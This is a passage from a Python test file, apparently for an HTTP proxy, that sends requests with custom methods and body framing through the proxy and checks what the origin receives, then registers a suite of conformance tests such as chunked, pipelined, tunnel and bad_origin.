        c.send(b"%s http://%s/pot HTTP/1.1\r\nHost: h\r\nContent-Length: 3\r\n"
               b"\r\ntea" % (method, origin.host.encode()))
        equal(c.message()[1], b"tea", method)
        line = method + b" /pot HTTP/1.1\r\n"
        equal(sum(x.seen.startswith(line) or b"tea" + line in x.seen
                  for x in origin.conns), 1, method)


run({f.__name__: f for f in (
    heads, connection_names_framing, chunked, extensions, keepalive, pipelined, no_body,
    expect, http10, to_the_end, large, tunnel, tunnel_refused,
    ipv6, slow, bad_origin, bad_origin_scanned, early_answer, silent_origin,
    refused, refused_later, refused_chunks, odd_names,
    unknown_method)}, sys.argv)
